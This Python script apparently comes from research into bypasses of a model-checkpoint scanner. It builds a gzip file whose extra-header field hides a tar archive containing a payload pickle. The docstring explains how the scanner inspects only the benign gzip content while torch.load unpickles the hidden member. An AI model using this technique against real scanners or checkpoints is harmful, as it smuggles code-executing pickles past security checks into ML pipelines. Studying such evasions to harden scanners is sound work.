#!/usr/bin/python3
"""A gzip file (of a benign pickle) whose FEXTRA field holds a whole tar archive starting at byte 0:
the gzip header's first 12 bytes are the tar name field's start, the extra field holds the rest of
tar header 0 (checksum spelled normally), header 1 'storages' and its data, the payload pickle.
ckptguard sniffs gzip before tar (lib/formats/src/container.cc Opener::Open: OpenWrapped returns
early) and scans only the decompressed benign pickle; torch.load tries tarfile.open on any non-zip
file first (torch/serialization.py _legacy_load -> legacy_load) and pickle.load()s 'storages'.
Usage: tar_in_gzip_extra.py OUT MARKER"""
import sys, struct, zlib, pickle
from tarblocks import header, payload

def tar_header(prefix12, name, size):
    return header(prefix12 + name, size)
def build(marker):
    pay = payload(marker)
    m1 = tar_header(b'', b'storages', len(pay)) + pay
    m1 += b'\0' * ((-len(m1)) % 512) + b'\0' * 1024
    xlen = 512 - 12 + len(m1)
    gz_head = b'\x1f\x8b\x08\x04' + b'\0\0\0\0' + b'\x00\xff' + struct.pack('<H', xlen)   # FLG = FEXTRA
    h0 = tar_header(gz_head, b'', 0)
    benign = pickle.dumps({'weights': [1.0, 2.0]}, protocol=2)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = co.compress(benign) + co.flush()
    return h0 + m1 + body + struct.pack('<II', zlib.crc32(benign), len(benign))
if __name__ == '__main__':
    open(sys.argv[1], 'wb').write(build(sys.argv[2]))
